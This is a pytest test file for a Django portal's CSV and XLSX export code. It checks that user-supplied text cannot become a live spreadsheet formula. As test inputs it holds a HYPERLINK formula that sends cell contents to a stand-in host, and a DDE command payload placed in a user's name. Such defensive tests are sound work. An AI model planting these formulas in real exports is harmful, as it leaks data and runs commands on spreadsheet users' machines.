"""Every export cell written from user text is inert: no spreadsheet formula survives."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from portal.tabular import inert, respond
from tests.notices.builders import ack, publish_notice

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"y")'


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (FORMULA, "'" + FORMULA),
        ("+82 10 1234", "'+82 10 1234"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("홍길동", "홍길동"),
        (7, 7),
        (-3, -3),
        (None, None),
    ],
)
def test_inert(value, shown):
    assert inert(value) == shown


def _xlsx_rows(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows()]


def test_xlsx_text_is_never_a_formula():
    response = respond(["이름", "값"], [[FORMULA, 5], ["-2", -2]], "t", "xlsx")
    (_header, first, second) = _xlsx_rows(response)
    assert first[0].value == FORMULA
    assert first[0].data_type == "s" and first[0].quotePrefix
    assert first[1].value == 5 and first[1].data_type == "n"
    assert second[0].data_type == "s" and second[0].quotePrefix
    assert second[1].value == -2


def test_control_characters_do_not_break_an_xlsx_export():
    response = respond(["이름"], [["\x07벨"], ["=\x01A1"]], "t", "xlsx")
    (_header, first, second) = _xlsx_rows(response)
    assert first[0].value == "벨"
    assert second[0].value == "=A1" and second[0].data_type == "s" and second[0].quotePrefix


@pytest.mark.django_db
def test_notice_exports_neutralise_names_and_browsers(client, world):
    user = world.agent_a1.user
    user.name = "=cmd|' /C calc'!A0"
    user.save()
    notice = publish_notice(everyone=True)
    ack(notice, world.agent_a1, user_agent=FORMULA)
    client.force_login(world.client_manager)

    audit = client.get(reverse("notices:manage_audit", args=[notice.pk, "csv"]))
    text = b"".join(audit.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULA in cells
    assert "'=cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)

    audit = client.get(reverse("notices:manage_audit", args=[notice.pk, "xlsx"]))
    cells = [cell for row in _xlsx_rows(audit) for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    assert any(cell.value == FORMULA and cell.quotePrefix for cell in cells)
